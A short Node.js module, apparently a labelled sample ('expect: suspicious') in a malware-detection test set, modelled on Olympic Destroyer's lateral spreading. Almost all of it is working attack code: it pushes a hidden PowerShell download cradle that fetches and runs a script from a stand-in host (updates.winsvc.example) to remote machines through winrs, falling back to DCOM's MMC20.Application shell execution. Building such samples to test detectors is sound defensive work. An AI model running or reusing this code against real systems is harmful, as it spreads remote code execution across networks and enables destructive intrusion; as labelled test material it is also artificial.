// expect: suspicious
// source: blind set 17's winsvc-host (Olympic Destroyer's spreading, 2018): each peer found with arp is told to run a
// PowerShell download cradle through winrs, and through DCOM's MMC20.Application when winrs fails
const { execFile } = require('child_process');
const STAGE = process.env.WINSVC_STAGE || 'https://updates.winsvc.example/s.ps1';
function cradle() { return "powershell -nop -w hidden -c \"IEX((New-Object Net.WebClient).DownloadString('" + STAGE + "'))\""; }
function pushTo(host, done) {
  execFile('winrs', ['-r:' + host, '-noprofile', cradle()], (err) => {
    if (!err) return done(true);
    const dcom = "$c=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','" + host + "'));" +
      "$c.Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c " + cradle() + "','7')";
    execFile('powershell', ['-nop', '-c', dcom], (e) => done(!e));
  });
}
module.exports = { pushTo };
